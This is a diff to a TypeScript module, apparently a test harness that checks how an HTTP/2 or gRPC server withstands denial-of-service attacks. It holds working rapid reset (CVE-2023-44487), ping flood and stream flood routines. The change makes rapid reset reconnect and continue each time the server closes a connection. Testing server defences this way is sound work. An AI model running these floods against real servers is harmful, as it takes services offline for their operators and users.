@@ -32,38 +32,43 @@ export interface GoAway {
 }
 
 export interface RapidResetResult {
-  /** Streams opened (HEADERS sent) and cancelled (RST_STREAM CANCEL) at once. */
+  /** Streams opened (HEADERS sent) and cancelled (RST_STREAM CANCEL) at once, over all connections. */
   opened: number;
-  /** The GOAWAY the server sent, if it closed the connection. */
-  goaway?: GoAway;
+  /** Connections used: the attacker opens another each time the server closes one. */
+  connections: number;
+  /** The GOAWAYs the server sent to end the attacker's connections. */
+  goaways: GoAway[];
 }
 
 /**
- * HTTP/2 rapid reset (CVE-2023-44487): opens `count` streams on one connection, each a real call
- * of `path`, and cancels each at once, so the server does the work of starting a call that never
- * counts against its concurrent-stream limit.
+ * HTTP/2 rapid reset (CVE-2023-44487): opens `count` streams, each a real call of `path`, and
+ * cancels each at once, so the server does the work of starting calls that never count against
+ * its concurrent-stream limit. All on one connection while the server keeps it open; when the
+ * server closes it, the attacker connects again and goes on.
  */
 export async function rapidReset(address: string, path: string, count: number): Promise<RapidResetResult> {
-  const session = await openSession(address);
-  let goaway: GoAway | undefined;
-  session.on('goaway', (errorCode, _lastStreamId, data) => (goaway = { errorCode, debugData: data?.toString() ?? '' }));
-  session.on('error', () => {});
-  let opened = 0;
-  try {
-    for (let i = 0; i < count && !session.closed && !session.destroyed; i++) {
-      const stream = session.request(grpcRequestHeaders(path), { endStream: false });
-      stream.on('error', () => {});
-      stream.close(constants.NGHTTP2_CANCEL);
-      opened += 1;
-      // Yield now and then, so frames go out while we keep opening streams.
-      if (i % 500 === 499) await new Promise((resolve) => setImmediate(resolve));
+  const result: RapidResetResult = { opened: 0, connections: 0, goaways: [] };
+  while (result.opened < count) {
+    const session = await openSession(address);
+    result.connections += 1;
+    session.on('goaway', (errorCode, _lastStreamId, data) => result.goaways.push({ errorCode, debugData: data?.toString() ?? '' }));
+    session.on('error', () => {});
+    try {
+      for (let i = 0; result.opened < count && !session.closed && !session.destroyed; i++) {
+        const stream = session.request(grpcRequestHeaders(path), { endStream: false });
+        stream.on('error', () => {});
+        stream.close(constants.NGHTTP2_CANCEL);
+        result.opened += 1;
+        // Yield now and then, so frames go out (and a GOAWAY comes in) while we keep opening streams.
+        if (i % 500 === 499) await new Promise((resolve) => setImmediate(resolve));
+      }
+      // Let the last frames reach the server before the connection goes.
+      await new Promise((resolve) => setTimeout(resolve, 100));
+    } finally {
+      session.destroy();
     }
-    // Let the last frames reach the server before the connection goes.
-    await new Promise((resolve) => setTimeout(resolve, 200));
-  } finally {
-    session.destroy();
   }
-  return { opened, goaway };
+  return result;
 }
 
 export interface PingFloodResult {
@@ -90,7 +95,9 @@ export async function pingFlood(address: string, intervalMs: number, durationMs:
       // The session is going away.
     }
   }, intervalMs);
-  await Promise.race([closed, new Promise((resolve) => setTimeout(resolve, durationMs))]);
+  let deadline: NodeJS.Timeout | undefined;
+  await Promise.race([closed, new Promise((resolve) => (deadline = setTimeout(resolve, durationMs)))]);
+  clearTimeout(deadline);
   clearInterval(timer);
   const result = { pingsSent, goaway, closedByServer };
   session.destroy();
@@ -100,8 +107,10 @@ export async function pingFlood(address: string, intervalMs: number, durationMs:
 export interface StreamFloodResult {
   /** Streams the server reset with REFUSED_STREAM. */
   refused: number;
-  /** Streams the server left open (it is running their calls, or holding them). */
-  open: number;
+  /** Streams whose call the server answered (sent response HEADERS for). */
+  answered: number;
+  /** The GOAWAY the server sent, if it ended the connection. */
+  goaway?: GoAway;
 }
 
 /**
@@ -116,6 +125,8 @@ export async function streamFlood(address: string, path: string, message: Uint8A
   await new Promise<void>((resolve, reject) => socket.once('connect', resolve).once('error', reject));
   socket.on('error', () => {});
   const refusedIds = new Set<number>();
+  const answeredIds = new Set<number>();
+  let goaway: GoAway | undefined;
   let received = Buffer.alloc(0);
   socket.on('data', (chunk: Buffer) => {
     received = Buffer.concat([received, chunk]);
@@ -125,6 +136,8 @@ export async function streamFlood(address: string, path: string, message: Uint8A
       const type = received[3];
       const streamId = received.readUInt32BE(5) & 0x7fffffff;
       if (type === RST_STREAM && received.readUInt32BE(9) === constants.NGHTTP2_REFUSED_STREAM) refusedIds.add(streamId);
+      if (type === HEADERS) answeredIds.add(streamId);
+      if (type === GOAWAY) goaway = { errorCode: received.readUInt32BE(13), debugData: received.subarray(17, 9 + length).toString() };
       if (type === SETTINGS && (received[4] & 1) === 0) socket.write(frame(SETTINGS, 1, 0, Buffer.alloc(0)));
       received = received.subarray(9 + length);
     }
@@ -140,13 +153,14 @@ export async function streamFlood(address: string, path: string, message: Uint8A
   socket.write(Buffer.concat(frames));
   await new Promise((resolve) => setTimeout(resolve, settleMs));
   socket.destroy();
-  return { refused: refusedIds.size, open: count - refusedIds.size };
+  return { refused: refusedIds.size, answered: answeredIds.size, goaway };
 }
 
 const DATA = 0x0;
 const HEADERS = 0x1;
 const RST_STREAM = 0x3;
 const SETTINGS = 0x4;
+const GOAWAY = 0x7;
 const END_STREAM = 0x1;
 const END_HEADERS = 0x4;
 
